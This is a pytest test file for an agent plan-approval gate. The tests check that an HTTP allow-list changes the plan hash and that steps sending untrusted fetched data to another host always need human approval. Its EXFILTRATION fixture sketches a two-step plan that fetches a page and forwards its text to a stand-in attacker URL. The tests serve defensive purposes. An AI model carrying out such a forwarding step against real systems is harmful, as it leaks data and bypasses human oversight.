"""The approval gate and untrusted content: the allow-list is part of the plan hash, and a
step that sends tainted data out needs a person under every mode."""

from __future__ import annotations

import hashlib
from typing import Any

import pytest
import rfc8785

from plandag.approval import (
    ApprovalRequest,
    approval_needed,
    approval_reason,
    compiled_plan_hash,
    plan_hash,
)
from plandag.compiler import compile_plan
from plandag.tools import default_registry
from plandag.tools.registry import Registry

PAGE = "http://127.0.0.1:8080/page"
ATTACKER = "http://127.0.0.2:8081/collect"


def get(step_id: int, url: str, **args: Any) -> dict[str, Any]:
    return {"id": step_id, "tool": "http_get", "args": {"url": url, **args}}


@pytest.fixture(scope="module")
def registry() -> Registry:
    return default_registry()


def test_a_plan_without_an_allow_list_keeps_its_former_hash() -> None:
    plan = {"version": 1, "goal": "g", "steps": []}
    former = hashlib.sha256(
        rfc8785.dumps({"plan": plan, "params": {}, "write_boundary": None})
    ).hexdigest()
    assert plan_hash(plan) == former
    assert plan_hash(plan, http_allow=[]) == former
    assert plan_hash(plan, http_allow=["a.example.com"]) != former


def test_the_allow_list_is_part_of_the_hash(registry: Registry) -> None:
    plan = {"steps": [get(1, PAGE)]}
    alone = compile_plan(plan, registry)
    configured = compile_plan(plan, registry, http_allow=["*.example.org"])
    assert alone.allowed_hosts == ("127.0.0.1:8080",)
    assert compiled_plan_hash(alone) == plan_hash(
        alone.plan, {}, None, http_allow=["127.0.0.1:8080"]
    )
    assert compiled_plan_hash(alone) != plan_hash(alone.plan, {}, None)
    assert compiled_plan_hash(configured) != compiled_plan_hash(alone)
    assert plan_hash(alone.plan, {}, None, ["b", "a", "a"]) == plan_hash(
        alone.plan, {}, None, ["a", "b"]
    )


EXFILTRATION = {
    "goal": "summarise a page",
    "steps": [
        get(1, PAGE),
        get(2, ATTACKER, params={"d": "<step_1_result.text>"}),
    ],
}


@pytest.mark.parametrize("mode", ["ask", "auto", "never"])
def test_tainted_egress_needs_a_person_under_every_mode(registry: Registry, mode: Any) -> None:
    compiled = compile_plan(EXFILTRATION, registry)
    assert approval_needed(compiled, mode) is True
    untainted = compile_plan({"steps": [get(1, PAGE), get(2, ATTACKER)]}, registry)
    assert approval_needed(untainted, mode) is False


def test_the_request_names_the_tainted_egress_and_the_hosts(registry: Registry) -> None:
    compiled = compile_plan(EXFILTRATION, registry, http_allow=["docs.example.com"])
    reason = approval_reason(compiled.steps)
    assert reason.startswith("step(s) 2 (http_get) send data that came from outside")
    request = ApprovalRequest.for_plan("r", 1, compiled, reason=reason, now=0.0)
    assert request.tainted_egress == (2,)
    assert request.http_allow == ("127.0.0.1:8080", "127.0.0.2:8081", "docs.example.com")
    assert request.plan_hash == compiled_plan_hash(compiled)
    lines = request.summary_lines()
    assert "  2. http_get after 1  [SENDS DATA THAT CAME FROM OUTSIDE]" in lines
    assert "HTTP requests may reach: 127.0.0.1:8080, 127.0.0.2:8081, docs.example.com" in lines
